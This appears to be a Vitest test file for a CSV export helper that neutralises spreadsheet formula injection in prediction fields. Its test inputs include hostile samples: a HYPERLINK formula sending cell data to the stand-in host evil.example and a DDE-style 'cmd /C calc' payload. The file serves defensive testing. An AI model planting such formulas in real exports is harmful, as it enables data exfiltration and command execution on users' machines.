import { describe, expect, it } from "vitest";
import { csvField, csvLine } from "./csv";

describe("predictions CSV fields", () => {
  it.each([
    ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
    ["+1+cmd|' /C calc'!A0", `"'+1+cmd|' /C calc'!A0"`],
    ["-2+3", `"'-2+3"`],
    ["@SUM(1,2)", `"'@SUM(1,2)"`],
    ["\t=1+1", `"'\t=1+1"`],
    ["\r=1+1", `"'\r=1+1"`],
    ["＝1+1", `"'＝1+1"`],
  ])("neutralises a formula-like start: %j", (input, expected) => {
    expect(csvField(input)).toBe(expected);
  });

  it("leaves ordinary text, inner operators and our own numbers alone", () => {
    expect(csvField("这部电影很好看")).toBe("这部电影很好看");
    expect(csvField("a = b + c")).toBe("a = b + c");
    expect(csvField("say \"hi\", then go")).toBe(`"say ""hi"", then go"`);
    expect(csvField(-1)).toBe("-1");
    expect(csvField(null)).toBe("");
  });

  it("keeps a line's fields in place", () => {
    expect(csvLine([3, "=1+1", 0, null, 0, "-"])).toBe(`3,"'=1+1",0,,0,"'-"`);
  });
});
